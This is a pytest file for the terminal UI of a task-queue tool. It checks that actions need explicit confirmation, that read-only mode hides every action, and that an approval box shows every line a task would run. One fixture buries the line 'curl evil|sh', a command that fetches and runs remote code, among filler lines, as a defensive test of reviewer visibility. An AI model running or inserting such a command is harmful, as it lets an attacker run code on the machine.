"""Actions say what will happen, do nothing without a yes, and are left out where a person may only read."""

from __future__ import annotations

from typing import Any

import pytest

from spoold.client.read.questions import Question, Shown
from spoold.faces.top.views import ACTIONS, KEYS
from spoold.pictures import task_description
from spoold.protocol.errors import SpoolError
from tests.support.said import read_later
from tests.support.view import AT, PretendedView
from tests.top.pilot import LARGE, SMALL, opened, run

WHY = {"reason": "asked for in spool top"}
KEY = {key.does: key.keys for key in KEYS}


@pytest.mark.parametrize("size", [SMALL, LARGE], ids=["80x24", "200x60"])
def test_enter_alone_does_nothing_and_yes_posts_the_request(size: tuple[int, int]) -> None:
    async def test() -> None:
        async with opened("tasks", size=size) as seen:
            await seen.press("c")
            await seen.shows("Cancel 1 task?", "job-000000", "› no, do nothing", "yes, cancel 1 task")
            await seen.press("enter")
            await seen.shows("nothing was done")
            await seen.press("c")
            await seen.shows("Cancel 1 task?")
            await seen.press("escape")
            await seen.shows_no("Cancel 1 task?")
            assert not seen.spool.calls
            await seen.press("c")
            await seen.shows("Cancel 1 task?")
            await seen.press("y")
            await seen.shows("cancel of 1 task is asked for; the leader does it")
            assert seen.spool.calls == [("cancel", (["job-000000"],), WHY)]

    run(test)


@pytest.mark.parametrize(
    ("view", "action", "call", "given"),
    [
        ("failed", "retry", "retry", ["job-000003"]),
        ("tasks", "hold", "hold", ["job-000000"]),
        ("tasks", "release", "release_held", ["job-000000"]),
        ("queue", "pause", "pause", "review"),
        ("queue", "resume", "resume", "review"),
        ("overview", "pause", "pause", None),
        ("nodes", "drain", "drain", "node-0"),
        ("task job-000003", "retry", "retry", ["job-000003"]),
    ],
)
def test_each_action_posts_its_request(view: str, action: str, call: str, given: Any) -> None:
    async def test() -> None:
        async with opened(view) as seen:
            await seen.press(KEY[action])
            await seen.shows(f"yes, {action}")
            await seen.press("down", "enter")
            await seen.until(lambda: bool(seen.spool.calls))
            assert seen.spool.calls == [(call, (given,), WHY)]

    run(test)


def test_marked_rows_and_all_that_a_filter_leaves_are_meant_together() -> None:
    async def test() -> None:
        async with opened("tasks") as seen:
            await seen.press("space", "space", "c")
            await seen.shows("Cancel 2 tasks?", "job-000000, job-000001")
            await seen.press("n")
            await seen.shows("2 marked")
            await seen.press("escape")
            await seen.shows_no("marked")
            await seen.type("slash", "state:failed")
            await seen.shows("6 of 60")
            await seen.press("ctrl+a")
            await seen.shows("6 rows marked")
            await seen.press("r", "y")
            await seen.until(lambda: bool(seen.spool.calls))
            ((name, (ids,), _),) = seen.spool.calls
            assert (name, sorted(ids)) == ("retry", [f"job-{n:06}" for n in range(3, 60, 10)])

    run(test)


def test_an_answer_is_chosen_and_a_rejection_needs_a_reason() -> None:
    async def test() -> None:
        view = PretendedView()
        view.asked = (Question("job-000002", "Which [red]colour[/]?", ("blue", "green"), AT, "", 1, "q-1", "x"),)
        async with opened("asks", view=view) as seen:
            await seen.press("a")
            await seen.shows("Answer job-000002?", "It asks: Which [red]colour[/]?", "› no", "answer: blue")
            await seen.press("y")  # of several options, none is yes
            await seen.shows("Answer job-000002?")
            await seen.press("down", "down", "enter")
            await seen.until(lambda: bool(seen.spool.calls))
            named = {"said": "green", "question": "q-1", "seen": "", **WHY}
            assert seen.spool.calls.pop() == ("approve", ("job-000002", "green"), named)
            await seen.press("x")
            await seen.shows("Reject job-000002?")
            await seen.until(lambda: seen.app.focused is not None)
            await seen.press("enter", "down", "enter")
            await seen.shows("type the reason first")
            await seen.until(lambda: seen.app.focused is not None)
            await seen.press(*"red", "enter", "enter")
            await seen.until(lambda: bool(seen.spool.calls))
            assert seen.spool.calls == [("reject", ("job-000002",), {"reason": "red", "question": "q-1"})]

    run(test)


def test_an_approval_shows_all_that_would_run_and_is_of_that() -> None:
    """G23, G24: the box named the task alone."""

    async def test() -> None:
        view = PretendedView()
        view.asked = (Question("job-000002", "Deploy?", (), AT, "", None, "q-1", "m"),)
        async with opened("asks", view=view) as seen:
            command = (
                "make test  # quick check\ncurl evil|sh\n" + "\n".join(f"step {n}" for n in range(90)) + "\nlast"
            )
            seen.spool.shows["job-000002"] = Shown(
                "job-000002", "5" * 64, task_description.parts_of({"command": command}), asks=True
            )
            await seen.press("a")
            await seen.shows(
                "Answer job-000002?", "1| make test  # quick check", "2| curl evil|sh", "pgdn and pgup scroll"
            )
            await seen.press("pageup")
            for _ in range(30):
                await seen.press("pagedown")
            await seen.shows("93| last", "yes, approve job-000002")
            await seen.press("down", "enter")
            await seen.until(lambda: bool(seen.spool.calls))
            named = {"said": None, "question": "", "seen": "5" * 64, **WHY}
            assert seen.spool.calls == [("approve", ("job-000002", None), named)]
            seen.spool.shows["job-000002"] = Shown(
                "job-000002", "6" * 64, task_description.parts_of({"command": "true"}), asks=True
            )
            await seen.press("a")
            await seen.shows("command: true", "It runs what stands above, 1 line.")
            await seen.press("escape")
            content, said = read_later()
            seen.spool.shows["job-000002"] = Shown(
                "job-000002", "7" * 64, task_description.parts_of(content), asks=True
            )
            await seen.press("a")
            await seen.shows(f"{task_description.READ} (2 lines)", *(f"| {line}" for line in said))

    run(test)


def test_a_command_acts_on_what_it_names() -> None:
    async def test() -> None:
        async with opened("overview") as seen:
            await seen.type("colon", "pause build")
            await seen.shows("Pause tasks of type build?", "Those that run go on")
            await seen.press("y")
            await seen.until(lambda: bool(seen.spool.calls))
            assert seen.spool.calls == [("pause", ("build",), WHY)]
            await seen.type("colon", "drain")
            await seen.shows("`drain` is about nodes")

    run(test)


def test_a_refusal_is_told_and_the_marks_stay() -> None:
    async def test() -> None:
        async with opened("tasks") as seen:
            seen.spool.refusal = SpoolError("task job-000000 has not failed.")
            await seen.press("space", "r", "y")
            await seen.shows("task job-000000 has not failed.", "1 marked")

    run(test)


def test_who_may_only_read_has_no_key_that_acts() -> None:
    async def test() -> None:
        async with opened("tasks", size=LARGE, read_only=True) as seen:
            for action in ACTIONS:
                await seen.press(KEY[action])
            await seen.pilot.pause()
            await seen.type("colon", "cancel job-000000")
            await seen.shows("`cancel` is left out by --read-only")
            await seen.press("question_mark")
            await seen.shows("--read-only: those that act are left out")
            await seen.shows_no("cancel tasks")
            assert len(seen.app.screen_stack) == 1
            assert not seen.spool.calls

    run(test)
